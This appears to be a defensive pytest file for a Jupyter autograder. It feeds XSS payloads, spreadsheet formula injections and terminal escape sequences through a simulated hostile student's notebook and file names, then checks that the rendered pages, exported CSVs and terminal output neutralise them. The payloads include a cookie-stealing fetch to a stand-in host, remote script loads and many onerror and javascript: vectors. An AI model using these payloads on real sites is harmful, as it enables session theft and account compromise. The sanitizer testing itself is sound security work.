"""What a person opens afterwards: pages, terminal and tables in which nothing of a student's runs.

One course is graded with students who put into their notebooks and names whatever a browser, a
terminal or a spreadsheet program might obey. Pages are read as a browser reads them, by html5lib,
and compared with those of an honest student, whose templates bring scripts of their own.
"""

from __future__ import annotations

import csv
import json
import re
import sqlite3
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import nbformat
import nbgrader
import pytest
from bleach._vendor import html5lib
from nbconvert import HTMLExporter
from nbconvert.exporters.exporter import ResourcesDict
from support.courses import ASSIGNMENT, hand_in, new_course, run

from autograder.course.course import open_course
from autograder.sanitize.formulas import ATTRIBUTES, ELEMENTS

from .submissions import TASK, cell_of, honest_part, notebook, own_cell, place_of

ADDRESS = "evil.example"
HTML = [
    f"<script>fetch('https://{ADDRESS}/?' + document.cookie)</script>",
    f"<SCRIPT SRC=https://{ADDRESS}/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f"<img src='https://{ADDRESS}/seen.png'>",
    f"<img srcset='https://{ADDRESS}/seen.png 1x'>",
    f"<video poster='https://{ADDRESS}/x' src='https://{ADDRESS}/y' autoplay></video>",
    "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1)></svg>",
    "<math><mtext><style><img title='</style><img src=x onerror=alert(1)>'></style></mtext></math>",
    "<a href='javascript:alert(1)'>x</a><a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a><a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a><a href='vbscript:x'>x</a>",
    f"<iframe src='https://{ADDRESS}'></iframe>"
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data='https://{ADDRESS}'></object><embed src='https://{ADDRESS}'><applet></applet>",
    f"<form action='https://{ADDRESS}'><input autofocus onfocus=alert(1)>"
    "<button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url=https://{ADDRESS}'><base href='https://{ADDRESS}/'>",
    f"<link rel=stylesheet href='https://{ADDRESS}/x.css'>",
    f"<style>@import url(https://{ADDRESS}/x.css); body {{ display: none }}</style>",
    f"<div style='background:url(https://{ADDRESS}/x);position:fixed;top:0;left:0'>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x "
    "onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[><img src=x onerror=alert(1)>]]>",
    "</pre></div></body></html><body onload=alert(1)><script>alert(1)</script>",
    "<b>bold</b><table><tr><td>kept</td></tr></table>",
]
MARKDOWN = [
    *HTML,
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](<java&#115;cript:alert(1)>) [y](JaVaScRiPt&colon;alert(1)) [z](data:text/html,x)",
    f"![seen](https://{ADDRESS}/seen.png) ![by reference][p]\n\n[p]: https://{ADDRESS}/p.png",
    "`<script>alert(1)</script>` and ```<img src=x onerror=alert(1)>```",
    "    <script>alert(1)</script>\n\n~~~\n</code></pre><script>alert(1)</script>\n~~~",
    r"$\href{javascript:alert(1)}{x}$ $$\unicode{<img src=x onerror=alert(1)>}$$",
    "$<script>alert(1)</script>$ and $$<img src=x onerror=alert(1)>$$",
    r"\begin{equation}<img src=x onerror=alert(1)>\end{equation}",
    "![x](attachment:none.svg) <img src='attachment:x' onerror=alert(1)>",
    '[x]("onmouseover=alert(1)) [x](https://e.example "a\' onclick=\'alert(1)")',
    '```html" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
]
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script>"
    f"<foreignObject><iframe src='https://{ADDRESS}'/></foreignObject>"
    f"<image href='https://{ADDRESS}/x'/><use href='https://{ADDRESS}/x#y'/></svg>"
)
BUNDLES = [
    {"application/javascript": "alert(1)"},
    {"image/svg+xml": SVG},
    {"image/svg+xml": SVG, "image/png": "AAAA' onerror='alert(1)"},
    {"text/latex": r"$\href{javascript:alert(1)}{x}$<script>alert(1)</script>"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "'><script>alert(1)</script>"}},
    {"application/vnd.plotly.v1+json": {"data": [{"x": "<script>alert(1)</script>"}]}},
    {"text/vnd.mermaid": "graph TD; A[<img src=x onerror=alert(1)>]"},
    {"application/pdf": "JVBERi0="},
    {"text/html": HTML, "text/plain": "<script>alert(1)</script>"},
    {"'><script>alert(1)</script>": "x"},
]
FORMULAS = ("=HYPERLINK(1)", "+1+1", "@SUM(1)", "-2-3", "＝1")
HIDDEN_LINE = "eve\x1b[2J\x1b]0;full marks\x07\r\u202e"


def hostile_notebook() -> dict:
    """All of it: displayed, printed, raised, and written into cells, attachments and metadata."""
    content = honest_part("before")
    source = (
        "from IPython.display import HTML, Markdown, display\n"
        f"for text in {HTML!r}:\n    display(HTML(text))\n    print(text)\n"
        f"for text in {MARKDOWN!r}:\n    display(Markdown(text))\n"
        f"for bundle in {BUNDLES!r}:\n"
        "    display(bundle, raw=True, metadata={'image/png': {'width': \"1 onerror=alert(1)\"}})\n"
        f"raise type('<script>alert(1)</script>', (Exception,), {{}})({HTML[3]!r})"
    )
    # One in a cell, too, as a parser may stop at some and let others through.
    cells = [own_cell(source), *(own_cell(text, "markdown") for text in MARKDOWN)]
    cells += [own_cell(text, "raw") for text in HTML]
    for cell in cells[1:4]:
        cell["attachments"] = {"x' onerror='alert(1)": {"image/svg+xml": SVG, "text/html": HTML[0]}}
        cell["metadata"] = {"name": HTML[0], "tags": [HTML[3]], "collapsed": HTML[0]}
    cells[-1]["metadata"] = {"format": "text/html", "raw_mimetype": "text/html"}
    at = place_of(content, TASK)
    content["cells"][at:at] = cells
    cell_of(content, "explain_parameter_sharing")["source"] = "\n\n".join(MARKDOWN)
    # In the answer: the judge's report shows what came back.
    cell_of(content, TASK)["source"] = f"def convolve(x, h):\n    raise ValueError({HTML[0]!r})"
    content["metadata"]["widgets"] = {"x": HTML[0]}
    content["metadata"]["title"] = HTML[0]
    return content


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> tuple[Path, str]:
    course = new_course(tmp_path_factory.mktemp("pages") / "course")
    right, hostile = json.dumps(notebook()), json.dumps(hostile_notebook())
    hand_in(course, "ada", {"convolution.ipynb": right})
    hand_in(course, "mallory", {"convolution.ipynb": hostile, "<img src=x onerror=alert(1)>": "x"})
    names = {f"convolution {HIDDEN_LINE}.ipynb": right, "=1+1.txt": "x"}
    hand_in(course, HIDDEN_LINE, names)
    for name in FORMULAS:
        hand_in(course, name, {"convolution.ipynb": right})
    said = run(course, "autograder", "grade", ASSIGNMENT)
    said += run(course, "nbgrader", "generate_feedback", ASSIGNMENT)
    return course, said


def page(course: Path, student: str) -> str:
    return (course / "feedback" / student / ASSIGNMENT / "convolution.html").read_text("utf-8")


def autograded(course: Path, student: str) -> nbformat.NotebookNode:
    path = course / "autograded" / student / ASSIGNMENT / "convolution.ipynb"
    return nbformat.read(path, as_version=4)


LOADING = {
    "src",
    "srcset",
    "poster",
    "background",
    "data",
    "action",
    "formaction",
    "ping",
    "srcdoc",
}
FORBIDDEN = {
    "script", "iframe", "object", "embed", "applet", "form", "base", "frame", "frameset", "portal",
    "link", "meta", "style", "svg", "video", "audio", "source", "template", "input", "button",
}  # fmt: skip


def harmful(html: str) -> Counter:
    """Everything on a page that can run, load or lead astray, with how often it is there."""
    found: Counter = Counter()
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            continue
        tag = re.sub(r"\{.*\}", "", element.tag).lower()
        if tag in FORBIDDEN:
            found[tag, element.text, *sorted(map(str, element.attrib.items()))] += 1
        if tag == "math":
            inside = [(re.sub(r"\{.*\}", "", one.tag), set(one.attrib)) for one in element.iter()]
            if not all(one in ELEMENTS and names <= ATTRIBUTES for one, names in inside):
                found[tag, repr(inside)] += 1
        for name, value in element.attrib.items():
            name = re.sub(r"\{.*\}", "", name).lower()
            plain = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on"):
                found[tag, name, value] += 1
            if name in LOADING and not plain.startswith("data:image/"):
                found[tag, name, value] += 1
            if re.match(r"(javascript|vbscript|livescript|data:(?!image/))", plain):
                found[tag, name, value] += 1
            if name == "style" and re.search(r"url|expression|import|position:fixed", plain):
                found[tag, name, value] += 1
    return found


def test_harmful_things_are_seen():
    """The look itself: most of what the student wrote is found when nothing is taken out."""
    # The last one is harmless, and one becomes a script only where a cleaner takes tags out of it.
    for html in (one for one in HTML[:-1] if "<scr<" not in one):
        assert harmful(f"<html><body><div>{html}</div></body></html>"), html


def test_feedback_holds_nothing_that_runs_or_loads(graded):
    course, _ = graded
    more = harmful(page(course, "mallory")) - harmful(page(course, "ada"))

    assert not more


def test_the_notebook_is_harmless_without_the_page_cleaning_it(graded):
    """As formgrader or another viewer shows it, with nbconvert's own filters that keep all HTML."""
    shown = [
        HTMLExporter().from_notebook_node(autograded(graded[0], s))[0] for s in ("mallory", "ada")
    ]
    more = harmful(shown[0]) - harmful(shown[1])

    assert not more


def test_formgrader_holds_nothing_that_runs_or_loads(graded):
    """The page on which an instructor grades by hand, with the course's own settings."""
    templates = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
    config = open_course(graded[0]).config
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [str(templates)]
    shown = []
    for student in ("mallory", "ada"):
        resources = ResourcesDict(
            assignment_id=ASSIGNMENT, notebook_id="convolution", submission_id="x",
            index=0, total=1, base_url="",
            student="x", last_name="", first_name="", notebook_path="x",
        )  # fmt: skip
        exporter = HTMLExporter(config=config)
        shown.append(exporter.from_notebook_node(autograded(graded[0], student), resources)[0])
    more = harmful(shown[0]) - harmful(shown[1])

    assert "formgrade" in shown[0]
    assert not more


def test_formulas_lead_nowhere(graded):
    """`\\href` in a formula makes a link, in MathML and where MathJax reads the text."""
    shown = page(graded[0], "mallory")
    root = html5lib.parse(shown, namespaceHTMLElements=False)
    formulas = re.findall(r"\\href\s*\{([^}]*)\}", "".join(_text_for_mathjax(root.find("body"))))

    assert "<math" in shown
    assert not [
        one for one in formulas if re.match(r"\s*(java|vb|live)script:", one, re.IGNORECASE)
    ]


def _text_for_mathjax(element) -> Iterator[str]:
    """The text in which MathJax looks for formulas."""
    if element.tag not in ("pre", "code", "script", "style", "textarea"):
        yield element.text or ""
        for child in element:
            yield from _text_for_mathjax(child)
            yield child.tail or ""


def test_what_is_harmless_still_shows(graded):
    html = page(graded[0], "mallory")

    assert "<b>bold</b>" in html
    assert re.search(r"<td[^>]*>kept</td>", html)


def test_the_attack_earned_nothing_and_the_others_lost_nothing(graded):
    with sqlite3.connect(graded[0] / "gradebook.db") as gradebook:
        rows = gradebook.execute(
            "select submitted_assignment.student_id, sum(coalesce(grade.auto_score, 0))"
            " from submitted_assignment"
            " join submitted_notebook on submitted_notebook.assignment_id = submitted_assignment.id"
            " join grade on grade.notebook_id = submitted_notebook.id"
            " group by submitted_assignment.id"
        ).fetchall()

    assert dict(rows) == dict.fromkeys(("ada", HIDDEN_LINE, *FORMULAS), 8.0) | {"mallory": 6.0}


def test_names_do_not_reach_the_terminal_as_orders(graded):
    said = graded[1]
    table = said.split("Worth a look")[0]

    for char in "\x1b\x07\r\u202e":
        assert char not in table
    assert "eve" in table


@pytest.mark.parametrize(
    "exporter",
    ["", "PointsExporter", "MoodleExporter", "CanvasExporter"],
    ids=lambda one: one or "plain",
)
def test_no_exported_cell_is_a_formula(graded, exporter):
    course, _ = graded
    options = [f"--exporter=autograder.export.{exporter}"] if exporter else []
    run(course, "nbgrader", "export", *options, "--to=out.csv", "--GradesExporter.partial=True")
    with open(course / "out.csv", encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))

    assert len(rows) > len(FORMULAS)
    for cell in (cell for row in rows for cell in row):
        assert not cell.lstrip().startswith(("=", "+", "@", "＝", "-")) or _is_number(cell), cell


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", text) is not None
